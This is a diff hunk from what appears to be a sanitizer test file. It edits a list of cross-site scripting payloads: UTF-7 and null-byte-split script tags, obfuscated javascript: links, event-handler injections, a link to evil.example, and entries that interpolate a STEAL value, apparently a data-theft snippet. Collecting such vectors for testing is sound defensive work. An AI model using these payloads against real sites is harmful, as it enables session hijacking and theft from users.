@@ -49,7 +49,7 @@ OWN = (
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     "<scr\x00ipt>alert(1)</scr\x00ipt>".replace("\x00", "\ufffd"),
     "[x][1] [2] ![x][1]\n\n[1]: javascript:alert(1)\n[2]: <data:text/html,<script>alert(1)</script>> 'x\" onmouseover=alert(1)'",
-    "[x](java&#10;script:alert(1)) [x](java%0ascript:alert(1)) [x](\x01javascript:alert(1)) [x](javascript&colon;alert(1))",
+    "[x](java&#10;script:alert(1)) [x](java%0ascript:alert(1)) [x](&#1;javascript:alert(1)) [x](javascript&colon;alert(1))",
     '<a href="java\tscript:alert(1)" autofocus onfocus=alert(1)>x</a><a href=" &#x6A;avascript:alert(1)">x</a><a href="//evil.example">x</a>',
     f'> <b title="> <img src=x onerror=alert(1)>\n\n- <i\n  onmouseover="{STEAL}">x',
     f"| a | b |\n|---|---|\n| <img src=x onerror={STEAL}> | `<script>alert(1)</script>` |",
